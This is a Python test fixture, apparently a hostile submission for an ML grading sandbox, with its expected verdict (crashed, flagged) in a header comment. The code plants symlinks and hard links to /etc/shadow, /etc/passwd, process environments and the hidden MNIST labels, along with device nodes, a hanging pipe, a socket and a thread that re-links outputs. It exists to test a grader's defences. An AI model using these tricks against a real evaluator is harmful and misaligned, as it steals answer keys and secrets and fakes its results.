"""Plants links, a pipe, a socket and a folder among its evidence, under names that the collector asks for.

The classic hole: `submission.csv -> /labels.npy`, opened with the grader's rights. A pipe without a writer makes a reader wait for ever. A second name for the true evidence of q1 makes that
unusable too: it might be written to by whoever holds the other name.
"""

# zoo: {"verdict": ["crashed"], "points": {"q1": 0, "q2": 0, "q3": 0}, "flags": ["foreign_files"]}
# %% q1
HONEST
# %% end
import socket
import threading
import time

folder = "/box/out/evidence" if os.path.isdir("/box/out/evidence") else "."
targets = {
    "0" * 64 + ".npy": "/labels/mnist/labels.npy",
    "labels.npy": "../../../labels/mnist/labels.npy",
    "1" * 64 + ".json": "/etc/shadow",
    "devices.json": "/proc/self/environ",
    "q9.json": "/proc/1/environ",
    "loop": "loop",
}
for name, target in targets.items():
    try:
        os.path.lexists(f"{folder}/{name}") and os.remove(f"{folder}/{name}")
        os.symlink(target, f"{folder}/{name}")
    except OSError as error:
        print(name, error)
for number, kind in enumerate((0o020666, 0o060666)):
    try:
        os.mknod(
            f"{folder}/{number}{'5' * 63}.npy", kind, os.makedev(1, 5) if number == 0 else os.makedev(8, 0)
        )
        print("made a device")
    except OSError as error:
        print("mknod", error.strerror)
os.mkfifo(f"{folder}/{'2' * 64}.npy")
os.makedirs(f"{folder}/{'3' * 64}.npy", exist_ok=True)
server = socket.socket(socket.AF_UNIX)
server.bind(f"{folder}/socket")
for source in ("/etc/passwd", "/box/out/evidence/q1.json", "/data/mnist/y_train.npy"):
    try:
        os.link(source, f"{folder}/{'4' * 63}{len(source) % 10}.json")
        print("hard link to", source)
    except OSError as error:
        print(source, error.strerror)


def keep():
    """q2's and q3's files are links again after each time they are written."""
    while True:
        for name in ("q2.json", "q3.json", "devices.json"):
            try:
                if not os.path.islink(f"{folder}/{name}"):
                    os.path.exists(f"{folder}/{name}") and os.remove(f"{folder}/{name}")
                    os.symlink("/box/out/evidence/q1.json", f"{folder}/{name}")
            except OSError:
                pass
        time.sleep(0.001)


threading.Thread(target=keep, daemon=True).start()
